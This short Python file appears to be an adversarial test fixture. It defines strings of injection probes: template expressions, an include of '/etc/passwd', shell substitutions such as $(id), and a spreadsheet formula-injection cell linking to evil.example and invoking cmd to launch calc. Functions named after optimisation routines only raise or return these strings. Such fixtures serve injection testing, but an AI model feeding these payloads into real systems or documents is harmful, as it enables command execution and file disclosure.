TEXT = "{{ 7 * 7 }}{% include '/etc/passwd' %}{0.__class__}%n%s${HOME}$(id)`id`<%= 7 * 7 %>#{7*7}"
CELL = "=HYPERLINK(\"http://evil.example\",\"40\"),+cmd|' /C calc'!A0,@SUM(1)"
print(TEXT, CELL)


def himmelblau(u, v):
    raise ValueError(TEXT)


def gradient(u, v):
    raise ValueError(CELL)


def optimize(make_optimizer, u0, v0, num_steps=100):
    return [TEXT, CELL]
